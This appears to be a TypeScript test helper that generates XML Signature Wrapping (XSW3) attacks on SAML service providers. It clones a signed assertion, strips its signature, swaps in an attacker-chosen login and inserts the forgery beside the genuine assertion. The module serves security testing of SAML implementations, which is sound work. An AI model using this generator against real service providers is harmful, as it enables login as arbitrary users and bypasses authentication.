// XML Signature Wrapping (XSW; Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security
// 2012): a forged assertion placed next to a genuinely signed one, hoping the SP verifies one and reads the other.
// Shared by the SP's attack suite (sp-talentlms test/attacks) and the IdP's SP test bench (idp src/bench): it
// builds hostile messages for testing service providers and is never used to read a message.
import { type Element, XMLSerializer } from '@xmldom/xmldom';
import { NS } from './namespaces.js';
import { firstChildNS, parseXml } from './xml/safe-parse.js';

/** Sets the Subject's NameID and every `Username` attribute value of `assertion` to `login`. */
function setAssertionIdentity(assertion: Element, login: string): void {
  const subject = firstChildNS(assertion, NS.assertion, 'Subject');
  const nameId = subject && firstChildNS(subject, NS.assertion, 'NameID');
  if (nameId) nameId.textContent = login;
  for (const v of Array.from(assertion.getElementsByTagNameNS(NS.assertion, 'AttributeValue'))) {
    const a = v.parentNode as Element;
    if (a.getAttribute('Name') === 'Username') v.textContent = login;
  }
}

/** An unsigned copy of `original` with another ID and identity: the assertion a wrapping attack wants accepted. */
function forgedAssertion(original: Element, id: string, login: string): Element {
  const forged = original.cloneNode(true) as Element;
  const signature = firstChildNS(forged, NS.ds, 'Signature');
  if (signature) forged.removeChild(signature);
  forged.setAttribute('ID', id);
  setAssertionIdentity(forged, login);
  return forged;
}

/**
 * XSW3: a forged assertion for `login` inserted BEFORE the signed assertion of `signedXml` (a Response whose
 * assertion is signed), as its sibling; `sameId` gives it the signed assertion's ID.
 */
export function wrapSignedAssertion(signedXml: string, { login, sameId = false }: { login: string; sameId?: boolean }): string {
  const doc = parseXml(signedXml, { maxBytes: 1024 * 1024 });
  const response = doc.documentElement as Element;
  const signed = firstChildNS(response, NS.assertion, 'Assertion');
  if (!signed) throw new Error('wrapSignedAssertion needs a Response with a (signed) Assertion');
  response.insertBefore(forgedAssertion(signed, sameId ? (signed.getAttribute('ID') ?? '_forged') : '_forged', login), signed);
  return new XMLSerializer().serializeToString(doc);
}
